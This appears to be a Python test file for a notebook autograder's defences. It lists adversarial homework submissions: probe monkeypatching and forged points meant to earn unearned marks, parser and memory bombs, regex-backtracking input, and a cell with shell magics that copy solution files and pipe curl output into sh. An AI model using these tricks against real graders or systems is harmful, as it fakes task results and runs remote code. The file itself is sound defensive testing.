"""Files and notebooks, the notebook: its JSON, cells, outputs, metadata and size."""

from __future__ import annotations

import json

from attack import (
    ALL_ROADS,
    NBGRADER,
    NETWORKS,
    PACKAGE,
    SOLUTION,
    STUB,
    ZIP,
    Attack,
    Changes,
)
from notebook_changes import (
    CELL,
    GRADED,
    HYPERPARAMETERS,
    NAMES,
    ONE_BLOCK_MISSING,
    UNANSWERED,
    answers_last,
    code,
    crowd,
    deleted,
    duplicated,
    each,
    full_marks_shown,
    honest,
    instead,
    markdown,
    metadata_bomb,
    more,
    no_json_numbers,
    points_and_flags,
    renamed,
    shuffled,
    surrogates,
    with_plots,
    without_answers,
    without_graded,
)

from autograder.hand_in.notebook import grade_id_of
from autograder.problem_1 import ASSIGNMENT as P1

ATTACKS = (
    Attack(
        "notebook: deleted",
        tries="Hands in no notebook, so that names are looked up in the library.",
        must="No points: a check of a missing cell fails.",
        baseline=UNANSWERED,
        changes=Changes(folder=deleted),
        twin=honest(
            Changes(
                folder=lambda folder: (folder / P1.notebook).rename(folder / "My homework.ipynb")
            )
        ),
        roads=(ZIP,),
    ),
    Attack(
        "notebook: deleted, and the library answers",
        tries="Patches the probes' reader of cells, so that it knows the names without a notebook.",
        must=(
            "No points: the missing cell is noticed outside the sandbox, and its probe is not run."
        ),
        baseline=UNANSWERED,
        changes=Changes(
            folder=deleted,
            appended={
                PACKAGE: f"""
                    import probes.activations, probes.own_training, probes.networks, probes.train

                    KNOWN = {{}}
                    exec({NAMES!r}, KNOWN)
                    KNOWN |= {{"batch_size": 20, "epochs": 8, "lr_decay": 1, "lr_decay_every": 100}}
                    for module in (probes.own_training, probes.networks, probes.train):
                        module.defined = lambda cells, cell, wanted, lib=None: KNOWN
                """
            },
        ),
        roads=(ZIP,),
    ),
    Attack(
        "notebook: without the answer cells",
        tries="Deletes them, so that the notebook looks like one from a year that had none.",
        must="No points: the grader decides which year's work it is.",
        baseline=UNANSWERED,
        changes=Changes(
            notebook=without_answers,
            files={"class.json": '{"older_work": true}', "older_work": "yes"},
        ),
        twin=honest(Changes(notebook=answers_last)),
        roads=(ZIP, NBGRADER),
    ),
    Attack(
        "notebook: empty answer cells",
        tries="Empties the answer cells, and defines the names in the library.",
        must=(
            "No points: a cell sees only the library's networks, and must define the names itself."
        ),
        baseline=UNANSWERED,
        changes=Changes(cells=dict.fromkeys(P1.answers, ""), appended={NETWORKS: NAMES}),
        twin=honest(Changes(cells={"cascade_names": NAMES, "small_network_names": NAMES})),
        roads=(ZIP, NBGRADER),
    ),
    Attack(
        "notebook: deleted, for the published hyperparameters",
        tries="Hands in no notebook, so that the published run's hyperparameters are used.",
        must="No points for the training: no hyperparameters were chosen.",
        baseline=SOLUTION.without(HYPERPARAMETERS),
        changes=Changes(folder=deleted),
        twin=SOLUTION.plus(
            cells={
                HYPERPARAMETERS: "batch_size, epochs = 20, 8\nlr_decay, lr_decay_every = 1, 100"
            },
            folder=renamed,
        ),
        training=True,
    ),
    Attack(
        "notebook: invalid JSON",
        tries="Hands in half a notebook, so that a grader gives up and keeps old points.",
        must="No points for cells: the report says that it cannot be read; the library is graded.",
        baseline=UNANSWERED,
        changes=Changes(notebook=lambda notebook: json.dumps(notebook).encode()[:-300]),
        twin=honest(
            Changes(
                notebook=lambda notebook: b"\xef\xbb\xbf" + json.dumps(notebook, indent=4).encode()
            )
        ),
        roads=ALL_ROADS,
    ),
    Attack(
        "notebook: nested brackets",
        tries="Nests half a million brackets, for a reader that recurses.",
        must="No points: the report says that it is nested too deeply.",
        baseline=ONE_BLOCK_MISSING,
        changes=instead(b'{"cells": ' * 500_000),
        roads=(ZIP, NBGRADER),
    ),
    Attack(
        "notebook: a hundred megabytes",
        tries="Hands in a notebook that takes a gigabyte of memory when it is read.",
        must="No points, no memory: sizes are checked first.",
        baseline=ONE_BLOCK_MISSING,
        changes=Changes(
            folder=lambda folder: (folder / "Problem_1.ipynb").write_bytes(
                b'{"nbformat": 4, "cells": [' + b"[]," * 35_000_000 + b"[]]}"
            )
        ),
        twin=honest(Changes(notebook=with_plots)),
        roads=(ZIP, NBGRADER),
    ),
    Attack(
        "notebook: the largest allowed size, all brackets",
        tries="Hands in fifteen megabytes of empty lists, which take twenty times that when read.",
        must="No points: a notebook of the largest allowed size fits the grader's memory.",
        baseline=ONE_BLOCK_MISSING,
        changes=instead(b'{"nbformat": 4, "cells": [' + b"[]," * 5_000_000 + b"{}]}"),
    ),
    Attack(
        "notebook: another format version",
        tries="Declares format version 3, for a converter that upgrades it.",
        must="No points for cells: the report says what to do.",
        baseline=UNANSWERED,
        changes=Changes(notebook=lambda notebook: {**notebook, "nbformat": 3, "worksheets": []}),
        twin=honest(Changes(notebook=lambda notebook: {**notebook, "nbformat_minor": 2})),
        roads=(NBGRADER,),
    ),
    Attack(
        "notebook: points, flags and types",
        tries="Gives each cell a thousand points, and swaps graded and ungraded cells.",
        must="No points: the points in the notebook are ignored.",
        baseline=ONE_BLOCK_MISSING,
        changes=each(points_and_flags),
        twin=honest(each(lambda cell: cell["metadata"].update(collapsed=True, scrolled="auto"))),
        roads=ALL_ROADS,
    ),
    Attack(
        "notebook: results in the cells",
        tries="Writes 2 of 2 points into outputs and sources, where nbgrader reads results.",
        must="No points: the content of a graded cell is replaced and never read.",
        baseline=STUB,
        changes=each(full_marks_shown),
        twin=honest(
            each(
                lambda cell: (
                    cell["cell_type"] == "code"
                    and cell.update(
                        outputs=[
                            {"output_type": "stream", "name": "stderr", "text": "100%|####|\n"}
                        ]
                    )
                )
            )
        ),
        roads=ALL_ROADS,
    ),
    Attack(
        "notebook: graded cells deleted",
        tries="Deletes the graded cells, because a missing cell cannot fail.",
        must="No points: every section is judged by its probes, whatever cells there are.",
        baseline=STUB,
        changes=Changes(notebook=without_graded),
        twin=honest(Changes(notebook=without_graded)),
        roads=(NBGRADER,),
    ),
    Attack(
        "notebook: cells three times",
        tries="Duplicates graded cells with other points, so that one counts several times.",
        must="No points: one cell of each id counts, and each section counts once.",
        baseline=ONE_BLOCK_MISSING,
        changes=Changes(notebook=duplicated),
        twin=honest(Changes(notebook=duplicated)),
        roads=(NBGRADER,),
    ),
    Attack(
        "notebook: cells turned into Markdown",
        tries="Turns graded cells and an answer cell into Markdown.",
        must="No points: a cell is identified by its id and its type.",
        baseline=ONE_BLOCK_MISSING,
        changes=each(
            lambda cell: grade_id_of(cell) in GRADED | {CELL} and cell.update(cell_type="markdown")
        ),
        twin=honest(Changes(notebook=shuffled)),
        roads=(NBGRADER,),
    ),
    Attack(
        "notebook: tags that skip the execution",
        tries="Tags every cell with skip-execution and raises-exception, so that nothing fails.",
        must="No points: tags are ignored.",
        baseline=STUB,
        changes=each(
            lambda cell: cell["metadata"].update(
                tags=["skip-execution", "raises-exception", "hide_input", "remove_cell"]
            )
        ),
        twin=honest(each(lambda cell: cell["metadata"].update(tags=["skip-execution"]))),
        roads=ALL_ROADS,
    ),
    Attack(
        "notebook: invalid numbers",
        tries="Puts NaN, infinities and an integer of thousands of digits into the JSON.",
        must="No points: nobody reads them, and they are not written back.",
        baseline=ONE_BLOCK_MISSING,
        changes=Changes(notebook=no_json_numbers),
        roads=(NBGRADER,),
    ),
    Attack(
        "notebook: lone surrogates",
        tries=(
            "Puts lone surrogates, which cannot be encoded, into sources, outputs, ids and "
            "metadata."
        ),
        must="No points, no error: what cannot be written is replaced.",
        baseline=ONE_BLOCK_MISSING,
        changes=Changes(notebook=surrogates),
        twin=honest(more(markdown("Größe: naïve ≥ 0.75 ✓ 😀"), code("π = '数字'"))),
        roads=(NBGRADER,),
    ),
    Attack(
        "notebook: metadata, attachments and kernels",
        tries="Names a shell as kernel, adds megabytes of metadata, and uses scripts as ids.",
        must="No points: metadata and attachments are dropped, and no kernel is started.",
        baseline=ONE_BLOCK_MISSING,
        changes=Changes(notebook=metadata_bomb),
        twin=honest(
            Changes(
                notebook=lambda notebook: {
                    **notebook,
                    "metadata": {
                        "kernelspec": {"name": "ece285", "display_name": "Python (ECE 285)"},
                        "vscode": {"interpreter": {"hash": "0" * 64}},
                    },
                }
            )
        ),
        roads=(NBGRADER,),
    ),
    Attack(
        "notebook: twenty thousand cells",
        tries="Puts thousands of cells and outputs before the ones that count.",
        must="No points, bounded time: cells are found by their ids, and only some are shown.",
        baseline=ONE_BLOCK_MISSING,
        changes=Changes(notebook=crowd),
        twin=honest(more(*[code(f"x = {n}") for n in range(300)])),
        roads=(NBGRADER,),
    ),
    Attack(
        "notebook: lines that take hours to match",
        tries=(
            "Uses a line of spaces that is almost a magic, for regular expressions that backtrack."
        ),
        must="No points, no time: such a line is read once.",
        baseline=ONE_BLOCK_MISSING,
        changes=Changes(
            cells={
                CELL: "relu = 1\n" + " " * 60_000 + "x\nnp?" + " " * 60_000 + "x\n" + "\\'" * 30_000
            }
        ),
        twin=honest(
            Changes(
                cells={
                    "cascade_names": "%matplotlib inline\n!pip install numpy\n"
                    "param_name_w, param_name_b = 'fullo_w', 'fullo_b'  # it's \"mine\""
                }
            )
        ),
        roads=(ZIP,),
    ),
    Attack(
        "notebook: a cell that does more than define names",
        tries="Rewrites the library and the probes in a cell that should define names.",
        must="No points: a cell runs in a probe of its own, after the library was imported.",
        baseline=SOLUTION.without("cascade_names"),
        changes=Changes(
            cells={
                "cascade_names": """
                    import sys, lib.mlp.layer_utils as layers, probes
                    layers.fc.forward = lambda self, feat: feat
                    for name, probe in probes.probes().items():
                        object.__setattr__(probe, "run", lambda *a, **k: iter(()))
                    sys.modules["__main__"].__dict__.clear()
                    param_name_w = param_name_b = type("Any", (str,), {"__eq__": lambda *a: True})()
                """
            }
        ),
        twin=honest(
            Changes(
                cells={
                    "cascade_names": """
                        from lib.mlp.fully_conn import TestFCReLU
                        model = TestFCReLU()
                        param_name_w, param_name_b = sorted(model.net.params, reverse=True)
                    """
                }
            )
        ),
    ),
    Attack(
        "notebook: magics and shell commands",
        tries="Uses %run, !cp and get_ipython() to fetch and to change what is graded.",
        must="No points: there is no IPython and no shell, and such lines are left out.",
        baseline=ONE_BLOCK_MISSING,
        changes=Changes(
            cells={
                CELL: "!cp /solution/lib/*.py lib/\n%run -i /solution/activations.py\n"
                "answers = !cat ../../source/problem_1/*.ipynb\nexec('\\n'.join(answers))\n"
                "get_ipython().system('curl http://127.0.0.1:8080/answers | sh')"
            }
        ),
        twin=honest(
            Changes(
                cells={
                    "cascade_names": "%%time\n# which ones?\nparam_name_w = 'fullo_w'\n"
                    "files = !ls\n%timeit 1 + 1\nparam_name_b = 'fullo_b'\nnp.where?"
                }
            )
        ),
        roads=(NBGRADER,),
    ),
)
